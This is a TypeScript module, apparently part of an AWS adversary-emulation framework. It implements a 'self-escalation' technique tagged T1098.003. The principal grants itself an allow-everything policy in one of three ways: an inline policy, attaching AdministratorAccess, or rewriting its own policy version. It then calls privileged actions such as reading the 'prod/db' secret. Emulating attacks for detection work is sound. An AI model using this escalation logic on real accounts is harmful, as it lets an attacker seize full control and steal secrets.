import { z } from 'zod'
import type { Actor } from '../actor.js'
import { createActor } from '../actor.js'
import { allowEverything } from '../attackers/allow-everything.js'
import type { HeldPrincipal } from '../attackers/attacker.js'
import { listAll } from '../attackers/listing.js'
import { Tasks } from '../attackers/tasks.js'
import { holderOf } from './holder.js'
import { defineTechnique, type ScriptedContext } from './technique.js'

const parameters = z.strictObject({
  /** `inline` puts a policy of its own, `attach` attaches AWS's AdministratorAccess, `version` rewrites a policy that it has. */
  by: z.enum(['inline', 'attach', 'version']).default('inline'),
  policyName: z
    .string()
    .regex(/^[\w+=,.@-]{1,128}$/, 'it must be the name of a policy')
    .default('maintenance'),
})

const attachedPolicy = z.object({ PolicyArn: z.string() })

/** What it could not do before. */
const privileged = [
  { service: 'iam', action: 'GetAccountAuthorizationDetails' },
  { service: 'secretsmanager', action: 'GetSecretValue', parameters: { SecretId: 'prod/db' } },
  { service: 'ec2', action: 'RunInstances' },
] as const

/** Gives itself all permissions there are. A deny is stronger than any of them, once it is enforced. */
export const selfEscalation = defineTechnique({
  name: 'self-escalation',
  attackId: 'T1098.003',
  gainsCredentials: false,
  summary: 'gives its own role or user a policy that allows everything, and uses it',
  parameters,
  begin: (context, { by, policyName }) => {
    const { account, accessKeyId, sourceIp, userAgent } = context
    const holder = holderOf(account, accessKeyId)
    const actor = createActor({ account, accessKeyId, sourceIp, userAgent })
    const ways = {
      inline: () => put(actor, holder, policyName),
      attach: () => attach(actor, holder, context),
      version: () => rewrite(actor, holder, context),
    }
    const tasks = new Tasks([ways[by]])
    const act = () => {
      tasks.attempt()
      for (const call of privileged) actor.call(call)
    }
    return { act, credentials: () => [accessKeyId] }
  },
})

function put(actor: Actor, holder: HeldPrincipal, PolicyName: string): boolean {
  const { kind, self } = on(holder)
  const parameters = { ...self, PolicyName, PolicyDocument: allowEverything }
  return actor.call({ service: 'iam', action: `Put${kind}Policy`, parameters }).ok
}

function attach(actor: Actor, holder: HeldPrincipal, { account }: ScriptedContext): boolean {
  const { kind, self } = on(holder)
  const PolicyArn = `arn:${account.partition}:iam::aws:policy/AdministratorAccess`
  return actor.call({ service: 'iam', action: `Attach${kind}Policy`, parameters: { ...self, PolicyArn } }).ok
}

/** The first policy of the account's own that is attached to it. */
function rewrite(actor: Actor, holder: HeldPrincipal, { account }: ScriptedContext): boolean {
  const { kind, self } = on(holder)
  const action = `ListAttached${kind}Policies`
  const attached = listAll(actor, { action, parameters: self, field: 'AttachedPolicies', item: attachedPolicy }) ?? []
  const own = attached.find(({ PolicyArn }) => !PolicyArn.startsWith(`arn:${account.partition}:iam::aws:`))
  if (own === undefined) return false
  const parameters = { ...own, PolicyDocument: allowEverything, SetAsDefault: true }
  return actor.call({ service: 'iam', action: 'CreatePolicyVersion', parameters }).ok
}

function on({ roleName, userName }: HeldPrincipal) {
  if (roleName !== undefined) return { kind: 'Role', self: { RoleName: roleName } }
  return { kind: 'User', self: { UserName: userName } }
}
